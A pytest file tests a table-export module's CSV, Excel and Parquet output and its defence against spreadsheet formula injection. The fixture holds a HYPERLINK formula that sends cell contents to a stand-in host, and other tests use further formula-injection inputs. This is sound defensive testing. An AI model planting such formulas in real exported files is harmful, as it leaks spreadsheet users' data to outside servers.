"""Tables handed on to other programs: the same figures in every form, and no text that a spreadsheet would run."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from analyse.exports import WORKBOOK, Format, export
from analyse.harmless import harmless
from analyse.speech import Form
from analyse.tables import Column, Table
from models.errors import SaksgangError

FORMULA = '=HYPERLINK("http://example.test/?"&A1;"se her")'
LABELS: dict[object, str] = {"nett": "+Nett og telefoni"}
TABLE = Table(
    name="teams",
    title="Team",
    columns=[
        Column(key="team", title="=Team", form=Form.TEXT, labels=LABELS),
        Column(key="week", title="Uke", form=Form.WEEK),
        Column(key="cases", title="Saker"),
        Column(key="share", title="Andel", form=Form.SHARE),
        Column(key="trend", title="Utvikling", form=Form.MEAN),
    ],
    frame=pd.DataFrame(
        {
            "team": ["nett", FORMULA],
            "week": pd.to_datetime(["2026-02-09", "2026-02-16"]),
            "cases": [3, 4],
            "share": [0.25, None],
            "trend": [-1.5, 2.0],
            "unused": [1, 2],
        }
    ),
)


def test_a_table_as_csv_has_its_keys_and_its_values(tmp_path: Path) -> None:
    [file] = export([TABLE], tmp_path / "new" / "folder", Format.CSV)
    with file.open(encoding="utf-8", newline="") as lines:
        rows = list(csv.reader(lines))
    assert file.name == "teams.csv"
    assert rows[0] == ["team", "week", "cases", "share", "trend"]
    assert rows[1] == ["nett", "2026-02-09", "3", "0.25", "-1.5"]
    assert rows[2] == [f"'{FORMULA}", "2026-02-16", "4", "", "2.0"]


def test_a_workbook_has_a_sheet_a_table_with_titles_and_names_for_people(tmp_path: Path) -> None:
    [file] = export([TABLE], tmp_path, Format.EXCEL)
    sheet = openpyxl.load_workbook(file)["teams"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert file.name == WORKBOOK
    assert rows[0] == ["'=Team", "Uke", "Saker", "Andel", "Utvikling"]
    assert (rows[1][0], rows[1][2], rows[1][3], rows[1][4]) == ("'+Nett og telefoni", 3, 0.25, -1.5)
    assert rows[2][0] == f"'{FORMULA}"
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "inlineStr", "n", "d"}, "no formula"
    assert sheet["D2"].number_format == "0 %"
    assert sheet["B2"].number_format == "yyyy-mm-dd"
    assert sheet.freeze_panes == "B2"


def test_a_table_as_parquet_keeps_its_kinds_and_its_text(tmp_path: Path) -> None:
    [file] = export([TABLE], tmp_path, Format.PARQUET)
    found = pd.read_parquet(file)
    assert found["team"].tolist() == ["nett", FORMULA], "no spreadsheet reads it"
    assert str(found["week"].dtype).startswith("datetime64")
    assert found["cases"].dtype == "int64"
    pd.testing.assert_frame_equal(found, TABLE.plain(), check_dtype=False)


@given(st.text(max_size=20))
def test_no_text_begins_as_a_formula_does(text: str) -> None:
    assert not harmless(text).lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert harmless(text).endswith(text)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1+1"])
def test_what_a_spreadsheet_runs_is_made_inert(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("value", [-1.5, 3, None, "a=1", ""])
def test_numbers_and_other_text_stay_as_they_are(value: object) -> None:
    assert harmless(value) == value


@pytest.mark.parametrize("form", list(Format))
def test_a_folder_that_cannot_be_made_is_said_in_a_line(tmp_path: Path, form: Format) -> None:
    (tmp_path / "file").write_text("", encoding="ascii")
    with pytest.raises(SaksgangError, match="cannot be written"):
        export([TABLE], tmp_path / "file" / "folder", form)
